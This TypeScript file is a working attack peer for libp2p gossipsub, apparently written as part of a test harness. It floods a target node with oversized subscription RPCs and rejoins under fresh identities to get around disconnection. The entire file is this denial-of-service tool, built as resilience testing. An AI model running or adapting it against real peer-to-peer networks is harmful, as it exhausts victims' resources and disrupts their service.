/**
 * The program of a hostile host that floods a victim with subscriptions, raw on the gossip
 * protocol. When the victim hangs up it comes back under a new identity, until everything has been
 * written. Arguments: the victim's address, how many bytes.
 */
import { generateKeyPair } from '@libp2p/crypto/keys'
import { RPC } from '@libp2p/gossipsub/message'
import type { Stream } from '@libp2p/interface'
import { noise } from '@libp2p/noise'
import { preSharedKey } from '@libp2p/pnet'
import { tcp } from '@libp2p/tcp'
import { yamux } from '@libp2p/yamux'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'
import { soon, swarmKey } from './hosts.ts'

const meshsub = '/meshsub/1.2.0'

/** Within what one RPC may carry, so that only the sum of them is an attack. */
const subscriptionsPerRpc = 64
const topicBytes = 1024

const [address = '', wanted = '0'] = process.argv.slice(2)
let topics = 0
let written = 0
let identities = 0
// A connection cut in the middle of a write is what this program lives from.
process.on('uncaughtException', () => {})
process.on('unhandledRejection', () => {})
process.on('disconnect', () => process.exit(0))

let hostile: Awaited<ReturnType<typeof newcomer>> | undefined
while (written < Number(wanted)) {
  await hostile?.stop()
  hostile = await newcomer()
  identities += 1
  try {
    const connection = await hostile.dial(multiaddr(address), { signal: soon() })
    await flood(await connection.newStream(meshsub, { signal: soon() }))
  } catch {
    // Cut off while negotiating: the next identity goes on.
  }
}
// The last one stays: a victim may not be saved by its enemy's departure.
process.send?.({ written, identities })

async function flood(stream: Stream): Promise<void> {
  while (written < Number(wanted) && (await writable(stream))) {
    const rpc = nextRpc()
    stream.send(rpc)
    written += rpc.length
  }
}

function nextRpc(): Uint8Array {
  const subscriptions = Array.from({ length: subscriptionsPerRpc }, () => ({
    subscribe: true,
    topic: String(topics++).padStart(topicBytes, 'x'),
  }))
  return prefixed(RPC.encode({ subscriptions, messages: [] }))
}

/** Bare libp2p with the swarm key, under an identity that nobody has seen before. */
async function newcomer(): ReturnType<typeof createLibp2p> {
  const node = await createLibp2p({
    privateKey: await generateKeyPair('Ed25519'),
    transports: [tcp()],
    streamMuxers: [yamux()],
    connectionEncrypters: [noise()],
    connectionProtector: preSharedKey({ psk: swarmKey('ours') }),
    connectionMonitor: { enabled: false },
  })
  // Gossip is only taken from whoever takes gossip.
  await node.handle(meshsub, (stream) => stream.addEventListener('message', () => {}))
  return node
}

/** Waits until more may be written. False when the stream has closed. */
function writable(stream: Stream): Promise<boolean> {
  if (stream.status !== 'open') return Promise.resolve(false)
  if (!stream.writableNeedsDrain) return Promise.resolve(true)
  return new Promise((resolve) => {
    const settle = (): void => {
      stream.removeEventListener('drain', settle)
      stream.removeEventListener('close', settle)
      resolve(stream.status === 'open')
    }
    stream.addEventListener('drain', settle)
    stream.addEventListener('close', settle)
  })
}

/** With its length before it, as a varint. */
function prefixed(bytes: Uint8Array): Uint8Array {
  const header: number[] = []
  let rest = bytes.length
  for (; rest > 127; rest = Math.floor(rest / 128)) header.push((rest & 127) | 128)
  header.push(rest)
  return new Uint8Array([...header, ...bytes])
}
